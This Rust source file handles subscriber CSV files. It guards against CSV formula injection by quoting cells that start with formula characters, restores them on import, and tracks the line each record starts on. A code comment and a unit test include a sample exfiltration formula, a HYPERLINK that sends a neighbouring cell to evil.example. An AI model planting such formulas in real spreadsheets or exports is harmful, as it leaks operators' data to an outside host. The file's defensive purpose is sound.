//! The cells and lines of subscriber CSV files: cells that cannot run in a spreadsheet, and
//! rows named by the line of the file they start on, read as a stream.

use std::borrow::Cow;
use std::cell::RefCell;
use std::collections::VecDeque;
use std::io::{self, Read};
use std::rc::Rc;

/// What makes a cell a formula in Excel, LibreOffice and Google Sheets (OWASP, "CSV
/// Injection"): a name such as `=HYPERLINK("https://evil.example/?"&A1,"x")` would run in
/// the operator's spreadsheet and could send the neighbouring cells away.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as export writes it: one that a spreadsheet would take for a formula gets a
/// leading single quote, which spreadsheets show as text (OWASP's advice). A cell that
/// [`restore`] would change gets one too, so that `restore(neutralize(c)) == c` for every
/// cell: a backup restores byte for byte.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) || restore(cell).len() != cell.len() {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as import reads it: the quote [`neutralize`] added is taken off again.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

/// Counts the lines of what a reader passes through, so that a record's byte position (the
/// csv crate's) becomes the line of the file it starts on. The crate's own `line()` is the
/// line where reading the record *began*: after a CRLF line end (what spreadsheets write)
/// that is still the previous line, and blank lines before a record count as its own.
///
/// Only the bytes between the last record asked about and what has been read are kept: the
/// csv reader's buffer and the record in hand, whatever the file's size.
#[derive(Clone, Default)]
pub struct LineTracker(Rc<RefCell<Tracked>>);

#[derive(Default)]
struct Tracked {
    /// Bytes from offset `base` to what has been read.
    pending: VecDeque<u8>,
    base: u64,
    /// The line of the byte at `base`.
    line: u64,
}

impl LineTracker {
    pub fn new() -> Self {
        Self::starting_at(1)
    }

    /// For a reader whose first byte is on this line of the file.
    pub fn starting_at(line: u64) -> Self {
        Self(Rc::new(RefCell::new(Tracked {
            line,
            ..Tracked::default()
        })))
    }

    /// Wraps a reader; every byte read through it is counted.
    pub fn reader<R: Read>(&self, inner: R) -> TrackedReader<R> {
        TrackedReader {
            inner,
            tracker: self.clone(),
        }
    }

    /// The 1-based line of the first byte of the record that starts at `position` (line
    /// ends before it are not part of it). Positions must come in order.
    pub fn line_of(&self, position: Option<&csv::Position>) -> u64 {
        let mut t = self.0.borrow_mut();
        let Some(position) = position else {
            return t.line;
        };
        let start = position.byte();
        while let Some(&b) = t.pending.front() {
            if t.base >= start && b != b'\r' && b != b'\n' {
                break;
            }
            if b == b'\n' {
                t.line += 1;
            }
            t.pending.pop_front();
            t.base += 1;
        }
        t.line
    }
}

pub struct TrackedReader<R> {
    inner: R,
    tracker: LineTracker,
}

impl<R: Read> Read for TrackedReader<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.tracker
            .0
            .borrow_mut()
            .pending
            .extend(buf.get(..n).unwrap_or_default());
        Ok(n)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_every_cell_comes_back_as_it_was() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let written = neutralize(cell);
            assert_eq!(written, format!("'{cell}"), "{cell:?}");
            assert_eq!(restore(&written), cell);
        }
        for cell in ["ada@example.com", "Ada", "", "'quoted", "a=b"] {
            assert_eq!(neutralize(cell), cell, "{cell:?} is left alone");
            assert_eq!(restore(cell), cell);
        }
        for cell in ["'=x", "''", "'''=", "'+1", "'"] {
            assert_eq!(restore(&neutralize(cell)), cell, "{cell:?} round-trips");
        }
    }

    #[test]
    fn records_are_named_by_the_line_they_start_on() {
        let text = "email\r\n\r\na@example.com\r\n\"multi\nline\",x\r\nb@example.com\r\n";
        let tracker = LineTracker::new();
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(tracker.reader(text.as_bytes()));
        let lines: Vec<u64> = reader
            .records()
            .map(|r| tracker.line_of(r.unwrap().position()))
            .collect();
        assert_eq!(lines, [3, 4, 6]);
    }
}
